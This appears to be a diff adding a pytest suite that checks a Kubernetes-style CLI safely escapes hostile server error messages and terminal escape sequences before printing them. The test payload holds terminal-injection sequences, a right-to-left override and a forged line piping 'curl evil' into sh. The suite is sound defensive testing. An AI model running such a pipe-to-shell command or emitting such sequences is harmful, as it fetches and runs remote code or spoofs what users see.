@@ -1,0 +1,109 @@
+"""A server that answers with commands to the terminal: they are shown, not obeyed."""
+
+from __future__ import annotations
+
+import json
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+from cli.terminals import environment, piped, terminal
+from sully.cli.client.texts import guarded
+
+HOSTILE = "no\x1b[2J\x1b]0;title\x07\x9b8m\u202e\rforged\n  run: curl evil | sh"
+SEEN = r"no\x1b[2J"
+
+
+class _Hostile(BaseHTTPRequestHandler):
+    code = 403
+
+    def _answer(self) -> None:
+        status = {"kind": "Status", "status": "Failure", "reason": "Forbidden", "code": self.code}
+        body = json.dumps({**status, "message": HOSTILE}).encode()
+        self.send_response(self.code)
+        self.send_header("content-type", "application/json")
+        self.send_header("content-length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    do_GET = do_POST = do_PATCH = do_DELETE = _answer  # noqa: N815 - names of the library
+
+    def log_message(self, *_: object) -> None: ...
+
+
+@pytest.fixture(scope="module", params=[403, 500, 422])
+def hostile(
+    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[Path]:
+    """Return a kubeconfig for a server that refuses everything with such a message."""
+    handler = type("Handler", (_Hostile,), {"code": request.param})
+    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    path = tmp_path_factory.mktemp("hostile") / "kubeconfig"
+    url = f"http://127.0.0.1:{server.server_address[1]}"
+    path.write_text(
+        json.dumps(
+            {
+                "clusters": [{"name": "a", "cluster": {"server": url}}],
+                "contexts": [{"name": "a", "context": {"cluster": "a", "user": "a"}}],
+                "users": [{"name": "a", "user": {}}],
+                "current-context": "a",
+            }
+        )
+    )
+    yield path
+    server.shutdown()
+    server.server_close()
+    thread.join()
+
+
+COMMANDS = {
+    "devices": ("devices",),
+    "history": ("history",),
+    "explain": ("explain", "pod", "x"),
+    "taint": ("taint", "device", "a/b/c", "example.com/x:NoExecute", "--yes"),
+    "capabilities": ("capabilities",),
+}
+
+
+@pytest.mark.parametrize("words", COMMANDS.values(), ids=COMMANDS.keys())
+def test_a_refusal(hostile: Path, words: tuple[str, ...]) -> None:
+    ran = piped(*words, env=environment(hostile))
+
+    assert ran.returncode != 0
+    shown = ran.stdout + ran.stderr
+    assert all(line.isprintable() for line in shown.split("\n")), ascii(shown)
+    assert "\n  run: curl" not in shown
+
+
+def test_a_refusal_in_a_terminal(hostile: Path) -> None:
+    with terminal("devices", env=environment(hostile)) as screen:
+        screen.wait_for(SEEN)
+        screen.end()
+
+    assert all(line.isprintable() for line in screen.shown.split("\n")), ascii(screen.shown)
+
+
+STREAMS = {
+    "plain": ("a line\n", "a line\n"),
+    "empty": ("", ""),
+    "a table": ("a\tb\nc\td\n", "a\tb\nc\td\n"),
+    "our colours": ("\x1b[31mred\x1b[0m", "\x1b[31mred\x1b[0m"),
+    "our progress": ("\r\x1b[K10 of 20", "\r\x1b[K10 of 20"),
+    "our bar": ("\r10 of 20", "\r10 of 20"),
+    "a clear screen": ("\x1b[2J", "\\x1b[2J"),
+    "hidden text": ("\x1b[8mhidden", "\\x1b[8mhidden"),
+    "a title": ("\x1b]0;title\x07", "\\x1b]0;title\\x07"),
+    "a sequence of one character": ("\x9b2J", "\\x9b2J"),
+    "text from right to left": ("\u202egpj", "\\u202egpj"),
+    "back to the beginning": ("refused\rallowed", "refused allowed"),
+}
+
+
+@pytest.mark.parametrize(("text", "want"), STREAMS.values(), ids=STREAMS.keys())
+def test_guarded(text: str, want: str) -> None:
+    assert guarded(text) == want
